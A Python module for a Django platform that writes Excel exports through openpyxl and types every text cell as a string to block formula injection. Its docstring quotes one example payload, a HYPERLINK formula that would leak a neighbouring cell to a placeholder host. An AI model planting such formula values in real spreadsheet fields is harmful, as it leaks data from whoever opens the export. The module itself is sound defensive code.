"""Excel workbooks the platform writes: text is always written as text, never as a formula.

openpyxl turns any string that starts with "=" into a formula (and "#N/A" and the like into error
cells), so an enterprise named '=HYPERLINK("http://x/?"&B2,"点击")' would become a live link in an
officer's export. Every workbook is written through this module, which gives each text cell the
string type explicitly; numbers, dates and booleans keep their own types.
"""

from io import BytesIO

from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell


def new_workbook(*, streaming: bool = True) -> Workbook:
    """A streaming (write-only) workbook for exports; a normal one where cells are styled afterwards."""
    return Workbook(write_only=streaming)


def cell(sheet, value):
    """A cell for `sheet.append`: text as a string cell whatever it starts with; other values as they are."""
    if value is None:
        return None
    if isinstance(value, Promise):  # a lazily translated text
        value = str(value)
    result = WriteOnlyCell(sheet, value)
    if isinstance(value, str):
        result.data_type = "s"
    return result


def append(sheet, values) -> None:
    sheet.append([cell(sheet, value) for value in values])


def to_bytes(book: Workbook) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def table_workbook(title: str, headers, rows) -> bytes:
    """One sheet named `title`: a row of `headers`, then `rows` (any iterable; streamed, not held)."""
    book = new_workbook()
    sheet = book.create_sheet(title[:31])
    append(sheet, headers)
    for values in rows:
        append(sheet, values)
    return to_bytes(book)
